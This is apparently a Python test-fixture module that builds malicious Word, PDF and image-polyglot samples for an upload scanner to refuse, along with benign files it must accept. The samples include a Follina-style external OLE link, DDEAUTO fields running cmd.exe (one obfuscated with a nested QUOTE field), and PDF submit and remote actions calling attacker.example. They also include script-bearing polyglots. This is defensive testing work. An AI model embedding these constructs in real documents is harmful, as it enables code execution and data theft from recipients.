"""The document corpus: one file of each class of active content the service refuses,
and files it must accept, each built here by the test code (nothing is committed as a
binary). The earlier classes are those of docs/adr/0008; the newer ones those of
docs/adr/0020."""

from __future__ import annotations

import io
import struct
import zipfile

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    PdfObject,
    StreamObject,
    TextStringObject,
)

from casereviews.notifications.attachments import LEGACY_WORD
from casereviews.uploads import pdfs, polyglots, word
from tests.notifications import files

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def _rels(*relationships: str) -> bytes:
    return (
        f'<Relationships xmlns="{_PKG}">' + "".join(relationships) + "</Relationships>"
    ).encode()


def _relationship(kind: str, target: str, *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rId9" Type="{_REL}/{kind}" Target="{target}"{mode}/>'


def docx_with_relationship(kind: str, target: str, *, external: bool, part: str = "") -> bytes:
    extra = {"word/_rels/document.xml.rels": _rels(_relationship(kind, target, external=external))}
    if part:
        extra[part] = b"content"
    return files.docx(extra=extra)


def _field(code_runs: list[str], nested: str = "") -> str:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in code_runs
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + nested
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _fld_char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def quote_obfuscated_field() -> str:
    """A field whose keyword is made by a nested QUOTE field (68 68 69 = "DDE")."""
    return (
        "<w:p>"
        + _fld_char("begin")
        + _fld_char("begin")
        + "<w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r>"
        + _fld_char("separate")
        + "<w:r><w:t>DDEAUTO</w:t></w:r>"
        + _fld_char("end")
        + '<w:r><w:instrText xml:space="preserve"> c:\\\\windows\\\\cmd.exe "/c calc"</w:instrText>'
        "</w:r>" + _fld_char("separate") + _fld_char("end") + "</w:p>"
    )


def pdf_with(
    *, root: dict[str, PdfObject] | None = None, annotation: dict[str, PdfObject] | None = None
) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    for key, value in (root or {}).items():
        writer._root_object[NameObject(key)] = value
    if annotation is not None:
        entries = {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 100, 100)]),
            **{NameObject(k): v for k, v in annotation.items()},
        }
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(DictionaryObject(entries))])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries: PdfObject) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject(kind),
            **{NameObject(f"/{k}"): v for k, v in entries.items()},
        }
    )


def _link(uri: str) -> dict[str, PdfObject]:
    return {
        "/Subtype": NameObject("/Link"),
        "/A": _action("/URI", URI=TextStringObject(uri)),
    }


def _embedded_file(content: bytes) -> StreamObject:
    stream = StreamObject()
    stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
    stream.set_data(content)
    return stream


def pdf_with_embedded_program() -> bytes:
    filespec = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject("update.exe"),
            NameObject("/EF"): DictionaryObject({NameObject("/F"): _embedded_file(files.EXE)}),
        }
    )
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("update.exe"), filespec])}
    )
    return pdf_with(root={"/Names": DictionaryObject({NameObject("/EmbeddedFiles"): tree})})


def pdf_with_xfa_script() -> bytes:
    xfa = StreamObject()
    xfa.set_data(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event '
        b'activity="initialize"><script contentType="application/x-javascript">'
        b"app.alert(1)</script></event></subform></template></xdp:xdp>"
    )
    # Compressed, as a real one is: the script is seen only by reading the PDF.
    form = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): xfa.flate_encode()}
    )
    return pdf_with(root={"/AcroForm": form})


def pdf_with_open_action(action: DictionaryObject) -> bytes:
    return pdf_with(root={"/OpenAction": action})


def jpeg_with(tail: bytes) -> bytes:
    return files.JPEG + tail


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("run.bat", "calc")
    return out.getvalue()


def windows_program() -> bytes:
    """An MZ header pointing at a PE header, as every Windows program starts."""
    header = bytearray(b"MZ" + b"\x00" * 0x3E)
    struct.pack_into("<I", header, 0x3C, 0x40)
    return bytes(header) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 64


def png_with_utf16_page() -> bytes:
    page = "<html><body><script>alert(1)</script></body></html>".encode("utf-16-le")
    return files.png() + page


# Every class refused: the file and the message the person reads.
REFUSED: dict[str, tuple[bytes, str]] = {
    # The classes of docs/adr/0008.
    "Old Word.doc": (files.DOC, LEGACY_WORD),
    "Macro-enabled.docx": (files.docx(main=files.DOCM_MAIN, macros=True), word.WORD_MACROS),
    "Renamed macros.docx": (files.docx(macros=True), word.WORD_MACROS),
    "ActiveX.docx": (
        files.docx(extra={"word/activeX/activeX1.xml": b"<ax/>"}),
        word.WORD_MACROS,
    ),
    "Embedded OLE.docx": (
        files.docx(extra={"word/embeddings/oleObject1.bin": files.OLE2}),
        word.WORD_EMBEDDED,
    ),
    "Script.pdf": (files.pdf(javascript="app.alert(1)"), pdfs.PDF_ACTIVE),
    "Escaped script.pdf": (
        files.pdf(javascript="app.alert(1)")
        .replace(b"/JavaScript", b"/J#61vaScript")
        .replace(b"/JS ", b"/J#53 "),
        pdfs.PDF_ACTIVE,
    ),
    "Launch.pdf": (files.pdf(open_action={"/S": "/Launch", "/F": "cmd.exe"}), pdfs.PDF_ACTIVE),
    "Javascript link.pdf": (
        files.pdf(open_action={"/S": "/URI", "/URI": "javascript:alert(1)"}),
        pdfs.PDF_ACTIVE,
    ),
    "Web page.pdf": (files.PDF + b"<html><script>alert(1)</script></html>", polyglots.WEB_PAGE),
    "Web page.png": (files.png_with_html(), polyglots.WEB_PAGE),
    # Word: what opens, fetches or runs by itself.
    "External OLE link (Follina).docx": (
        docx_with_relationship(
            "oleObject",
            "mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x",
            external=True,
        ),
        word.WORD_LINKS,
    ),
    "Remote template.docx": (
        files.docx(
            extra={
                "word/_rels/settings.xml.rels": _rels(
                    _relationship(
                        "attachedTemplate", "https://attacker.example/t.dotm", external=True
                    )
                )
            }
        ),
        word.WORD_LINKS,
    ),
    "Linked picture.docx": (
        docx_with_relationship("image", "\\\\attacker.example\\share\\a.png", external=True),
        word.WORD_LINKS,
    ),
    "File hyperlink.docx": (
        docx_with_relationship("hyperlink", "file:///C:/Windows/System32/calc.exe", external=True),
        word.WORD_LINKS,
    ),
    "Alternative chunk.docx": (
        docx_with_relationship("aFChunk", "afchunk.mht", external=False, part="word/afchunk.mht"),
        word.WORD_EMBEDDED,
    ),
    "Embedded package.docx": (
        files.docx(extra={"word/embeddings/Workbook1.xlsx": b"PK"}),
        word.WORD_EMBEDDED,
    ),
    "DDEAUTO field.docx": (
        files.docx(
            body='<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe calc"/></w:p>'
        ),
        word.WORD_FIELDS,
    ),
    "DDE split across runs.docx": (
        files.docx(body=_field(["D", "DE", "AUTO ", 'c:\\\\cmd.exe "/c calc"'])),
        word.WORD_FIELDS,
    ),
    "INCLUDETEXT field.docx": (
        files.docx(body=_field(['INCLUDETEXT "\\\\\\\\attacker.example\\\\s\\\\a.docx"'])),
        word.WORD_FIELDS,
    ),
    "Keyword from a nested field.docx": (
        files.docx(body=quote_obfuscated_field()),
        word.WORD_FIELDS,
    ),
    "Mail merge query.docx": (
        files.docx(
            extra={
                "word/settings.xml": (
                    b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
                    b'2006/main"><w:mailMerge><w:query w:val="SELECT * FROM x"/></w:mailMerge>'
                    b"</w:settings>"
                )
            }
        ),
        word.WORD_LINKS,
    ),
    # PDF: what runs, sends, opens or carries.
    "XFA script.pdf": (pdf_with_xfa_script(), pdfs.PDF_ACTIVE),
    "Submit form.pdf": (
        pdf_with_open_action(
            _action("/SubmitForm", F=TextStringObject("https://attacker.example/collect"))
        ),
        pdfs.PDF_ACTIVE,
    ),
    "Remote go-to.pdf": (
        pdf_with_open_action(
            _action("/GoToR", F=TextStringObject("\\\\attacker.example\\s\\a.pdf"))
        ),
        pdfs.PDF_ACTIVE,
    ),
    "File link.pdf": (pdf_with(annotation=_link("file:///C:/Windows/calc.exe")), pdfs.PDF_LINKS),
    "Network share link.pdf": (
        pdf_with(annotation=_link("\\\\attacker.example\\share\\x")),
        pdfs.PDF_LINKS,
    ),
    "Embedded program.pdf": (pdf_with_embedded_program(), pdfs.PDF_EMBEDDED),
    "File attachment.pdf": (
        pdf_with(
            annotation={
                "/Subtype": NameObject("/FileAttachment"),
                "/FS": DictionaryObject(
                    {
                        NameObject("/Type"): NameObject("/Filespec"),
                        NameObject("/F"): TextStringObject("a.exe"),
                    }
                ),
            }
        ),
        pdfs.PDF_EMBEDDED,
    ),
    "Rich media.pdf": (
        pdf_with(annotation={"/Subtype": NameObject("/RichMedia")}),
        pdfs.PDF_ACTIVE,
    ),
    # Lighter polyglots.
    "Image tag.pdf": (files.PDF + b"<img src=x onerror=alert(1)>", polyglots.WEB_PAGE),
    "Event handler.pdf": (files.PDF + b'<x id="a" onmouseover="alert(1)">', polyglots.WEB_PAGE),
    "UTF-16 page.png": (png_with_utf16_page(), polyglots.WEB_PAGE),
    "With an archive.pdf": (files.PDF + zip_archive(), polyglots.HIDDEN_FILE),
    "With a program.jpg": (jpeg_with(windows_program()), polyglots.HIDDEN_FILE),
    "With a RAR.png": (files.png() + b"Rar!\x1a\x07\x00" + b"\x00" * 32, polyglots.HIDDEN_FILE),
}

_HYPERLINKS = (
    _field(['HYPERLINK "https://www.gov.uk/government/publications" \\o "Guidance"'])
    + _field(['HYPERLINK \\l "_Toc1"'])
    + _field(["PAGE"])
    + _field(['TOC \\o "1-3" \\h'])
)
# Documents of the same kinds with nothing active: each must be accepted.
ACCEPTED: dict[str, bytes] = {
    "Plain.pdf": files.PDF,
    "Web link.pdf": pdf_with(annotation=_link("https://www.gov.uk/")),
    "Plain.docx": files.docx(),
    "Links, contents and page numbers.docx": files.docx(
        body=_HYPERLINKS,
        extra={
            "word/_rels/document.xml.rels": _rels(
                _relationship("hyperlink", "https://www.gov.uk/", external=True)
            )
        },
    ),
    "Photo.jpg": files.JPEG,
    "Scan.png": files.png(),
}
